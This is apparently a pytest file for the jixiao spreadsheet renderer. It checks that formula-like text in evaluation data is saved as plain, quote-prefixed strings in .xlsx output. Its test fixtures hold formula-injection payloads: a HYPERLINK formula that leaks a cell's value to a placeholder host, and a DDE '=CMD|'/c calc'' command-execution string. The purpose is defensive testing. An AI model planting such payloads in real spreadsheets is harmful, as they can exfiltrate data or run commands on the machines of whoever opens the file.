"""F5 (issue 10): text that looks like a formula is written as text in every .xlsx the core writes.

An indicator name, a target, a grade, a unit or project name, a 决算 line name — anything a document
or a person supplied — may begin with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return. The
files are written through the command line (``jixiao render``), the same door a user takes, and
opened with openpyxl: no such cell is a formula, and the text reads as it was written.
"""

from __future__ import annotations

from decimal import Decimal
from io import BytesIO
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from openpyxl import Workbook

from jixiao.cli import main
from jixiao.model import EvaluationPackage, save_package
from jixiao.renderers.spreadsheet import FORMULA_TRIGGERS, append_row, is_risky, write_cell
from tests.renderers.conftest import seed

EVIL = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"点此查看")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _poisoned_001() -> EvaluationPackage:
    package = seed("001").model_copy(deep=True)
    assert package.overall is not None
    package.unit.name = EVIL[0]
    indicators = package.overall.indicators
    for i, text in enumerate(EVIL):
        indicators[i].name = text
        indicators[i].target_raw = text
        indicators[i].actual_raw = text
        indicators[i].deviation_note = text
    package.overall.stated_grade = "=1+1"
    package.projects[0].name = "=CMD|'/c calc'!A0"
    return package


def _poisoned_004() -> EvaluationPackage:
    package = seed("004").model_copy(deep=True)
    assert package.final_accounts is not None
    table = package.final_accounts.tables[0]
    table.rows[0].name = "=1+1"
    table.rows[1].name = "@SUM(A1)"
    return package


def _render(tmp_path: Path, package: EvaluationPackage, *args: str) -> list[Path]:
    source = tmp_path / "package.yaml"
    save_package(package, source)
    out = tmp_path / "out"
    result = CliRunner().invoke(
        main, ["render", str(source), "--format", "xlsx", "-o", str(out), *args], catch_exceptions=False
    )
    assert result.exit_code == 0, result.output
    files = sorted(out.glob("*.xlsx"))
    assert files
    return files


def _cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    wb = openpyxl.load_workbook(path)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def _assert_text_not_formula(files: list[Path], texts: list[str]) -> None:
    seen: set[str] = set()
    for path in files:
        for cell in _cells(path):
            if isinstance(cell.value, str) and any(t in cell.value for t in texts):
                assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                assert cell.data_type == "s"
                seen.update(t for t in texts if cell.value == t or cell.value.endswith(t))
    missing = [t for t in texts if t not in seen]
    assert not missing, f"not written as visible text: {missing}"


def test_forms_write_formula_like_text_as_text(tmp_path: Path) -> None:
    files = _render(tmp_path, _poisoned_001(), "--what", "forms")
    _assert_text_not_formula(files, [*EVIL, "=1+1", "=CMD|'/c calc'!A0"])
    # no formula at all in a filled form: every computed figure is a number
    assert not [c.coordinate for p in files for c in _cells(p) if c.data_type == "f"]


def test_real_numbers_stay_numbers(tmp_path: Path) -> None:
    (path,) = _render(tmp_path, _poisoned_001(), "--what", "forms")
    total = next(
        r
        for r in openpyxl.load_workbook(path)["整体支出自评表"].iter_rows(values_only=True)
        if r[0] == "总分"
    )
    assert total[6:8] == (100, 96)


def test_final_accounts_write_formula_like_text_as_text(tmp_path: Path) -> None:
    files = _render(tmp_path, _poisoned_004(), "--what", "final-accounts")
    _assert_text_not_formula(files, ["=1+1", "@SUM(A1)"])


def test_blank_template_keeps_its_own_formulas_but_not_the_packages(tmp_path: Path) -> None:
    files = _render(tmp_path, _poisoned_001(), "--what", "forms", "--blank")
    _assert_text_not_formula(files, ["=CMD|'/c calc'!A0"])
    formulas = [c.value for p in files for c in _cells(p) if c.data_type == "f"]
    assert formulas  # the computed cells of the template (执行率, 总分 …) are still formulas
    assert not [f for f in formulas if "HYPERLINK" in str(f) or "CMD" in str(f)]


@pytest.mark.parametrize("text", EVIL)
def test_helpers_store_risky_text_as_text_with_quote_prefix(text: str) -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    write_cell(ws, 1, 1, text)
    append_row(ws, [text, Decimal("12.50"), 3, None, "普通文字"])
    buffer = BytesIO()
    wb.save(buffer)
    back = openpyxl.load_workbook(BytesIO(buffer.getvalue())).active
    assert back is not None
    for coordinate in ("A1", "A2"):
        cell = back[coordinate]
        assert cell.data_type == "s" and cell.value == text and cell.quotePrefix
    assert back["B2"].data_type == "n" and back["B2"].value == 12.5
    assert back["C2"].value == 3 and back["E2"].value == "普通文字"
    assert is_risky(text) and text[0] in FORMULA_TRIGGERS
    assert not is_risky("普通文字") and not is_risky("96")
